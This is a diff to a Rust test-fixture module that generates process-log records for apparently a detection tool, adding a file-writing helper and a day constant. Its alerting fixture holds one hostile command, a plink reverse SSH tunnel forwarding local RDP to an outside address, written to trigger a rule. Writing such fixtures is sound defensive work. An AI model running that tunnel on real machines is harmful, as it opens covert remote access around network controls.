@@ -1,5 +1,11 @@
 //! Single records, as a collector writes them.
 
+use std::fs::File;
+use std::io::{BufWriter, Write};
+use std::path::Path;
+
+pub const DAY_MS: i64 = 86_400_000;
+
 /// 2026-03-02T09:00:00Z, a Monday.
 pub const MONDAY: i64 = 1_772_442_000_000;
 
@@ -29,4 +35,11 @@ pub fn process(ms: i64, user: &str, command: &str) -> String {
 /// One rule fires on it, for whichever user.
 pub fn alerting(ms: i64, user: &str) -> String {
     process(ms, user, "plink.exe -ssh -R 4444:127.0.0.1:3389 u@203.0.113.9")
+}
+
+/// A file of such records.
+pub fn write_lines(path: &Path, lines: impl Iterator<Item = String>) {
+    let mut out = BufWriter::new(File::create(path).unwrap());
+    lines.for_each(|line| out.write_all(line.as_bytes()).unwrap());
+    out.flush().unwrap();
 }
